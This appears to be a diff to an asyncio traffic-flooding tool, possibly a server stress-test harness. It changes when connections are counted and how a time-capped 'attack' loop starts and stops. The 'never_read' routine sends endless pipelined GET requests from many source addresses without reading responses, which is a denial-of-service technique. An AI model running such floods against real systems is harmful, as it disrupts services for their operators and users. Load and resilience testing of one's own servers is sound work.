@@ -178,9 +178,9 @@ async def never_read(foe: Foe) -> None:
     line.setblocking(False)
     line.bind((foe.address, 0))
     loop = asyncio.get_running_loop()
+    foe.done["connections"] += 1
     try:
         await loop.sock_connect(line, (HOST, foe.plan.port))
-        foe.done["connections"] += 1
         while True:
             await loop.sock_sendall(line, foe.request("GET", "/") * 20)
             foe.done["requests"] += 20
@@ -333,19 +333,19 @@ def hands(way: Way, addresses: int) -> int:
 
 async def attack(plan: Plan) -> Counter[str]:
     way, done = WAYS[plan.way], Counter[str]()
-    ends = time.monotonic() + min(plan.seconds, NEVER_MORE)
 
     async def hand(address: str) -> None:
-        while time.monotonic() < ends:
+        while True:
             with suppress(OSError, EOFError, ValueError, asyncio.LimitOverrunError):
                 await way(Foe(plan, address, done))
             await asyncio.sleep(0)
 
-    sys.stdout.write("now\n")
-    sys.stdout.flush()
     each = hands(way, len(plan.addresses))
     attackers = [asyncio.create_task(hand(a)) for a in plan.addresses for _ in range(each)]
-    await asyncio.sleep(max(0.0, ends - time.monotonic()))
+    await asyncio.sleep(0)
+    sys.stdout.write("every hand has begun\n")
+    sys.stdout.flush()
+    await asyncio.sleep(min(plan.seconds, NEVER_MORE))
     for task in attackers:
         task.cancel()
     await asyncio.gather(*attackers, return_exceptions=True)
